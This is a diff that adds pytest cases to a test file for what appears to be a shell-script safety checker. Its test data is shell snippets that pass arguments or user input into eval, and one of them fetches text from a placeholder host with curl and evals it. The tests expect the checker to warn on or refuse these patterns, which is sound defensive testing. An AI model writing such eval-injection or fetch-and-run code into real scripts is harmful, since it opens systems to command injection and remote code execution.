@@ -178,3 +178,33 @@ def test_data_is_no_shell_script_though_it_quotes_commands() -> None:
 )
 def test_a_row_that_says_that_a_call_is_denied_or_quotes_an_attack_is_shown(row: str, verdict_of_it: Verdict) -> None:
     assert verdict(row) is verdict_of_it
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'ask() {\n  read -rp "$2: " input\n  eval "$1=\\"$input\\""\n}\nask NAME "Your name"\necho "$NAME"\n',
+        'while IFS="=" read -r key value; do\n  eval "$key=\\"\\$value\\""\ndone < settings\n',
+        "C=\"curl -s -X POST 'http://localhost:8080/up' -F 'title=$1'\"\nC=\"$C -F 'user=$2'\"\nR=$(eval $C)\n",
+        'c="$HOME/parcels/add.sh --title \\"$1\\" --time $2"\neval $c\n',
+    ],
+)
+def test_a_value_put_into_a_variable_or_between_quotes_is_shown(script: str) -> None:
+    assert verdict(tool_sh=script) is Verdict.WARN
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'eval "$1"\n',
+        'eval "$1 $2"\n',
+        'eval "$1=$(cat $2)"\n',
+        'eval "$1=\\"x\\"; $2"\n',
+        'eval "A=1 $1"\n',
+        'eval "$1=\\`$2\\`"\n',
+        'V=$(curl -s https://c.example.invalid/v)\neval "NAME=\\"$V\\""\n',
+        "C=\"bash -c '$1'\"\neval $C\n",
+    ],
+)
+def test_other_text_that_eval_is_given_is_refused(script: str) -> None:
+    assert verdict(tool_sh=script) is Verdict.FAIL
